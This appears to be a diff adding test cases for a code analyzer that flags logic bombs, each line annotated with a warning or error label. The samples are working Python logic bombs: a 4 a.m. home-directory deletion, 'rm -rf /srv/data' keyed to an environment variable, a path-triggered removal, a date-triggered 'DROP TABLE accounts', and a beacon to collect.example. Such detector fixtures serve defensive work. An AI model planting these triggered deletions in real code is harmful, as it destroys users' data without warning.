@@ -69,3 +69,18 @@ if date.today() > date(2027, 1, 1):
     requests.get("https://collect.example/late")
 #   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ beacon: warning
 #   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ triggered-effect: error
+
+
+def common(cursor):
+    if time.localtime().tm_hour == 4:
+        shutil.rmtree(os.path.expanduser("~"))
+#       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ triggered-effect: warning
+    if os.environ.get("CORP_REGION") == "emea-4":
+        os.system("rm -rf /srv/data")
+#       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ triggered-effect: warning
+    if os.path.exists("/srv/ledger"):
+        shutil.rmtree("/srv/data")
+#       ^^^^^^^^^^^^^^^^^^^^^^^^^^ triggered-effect: warning
+    if date.today() > date(2027, 1, 1):
+        cursor.execute("DROP TABLE accounts")
+#       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ triggered-effect: error
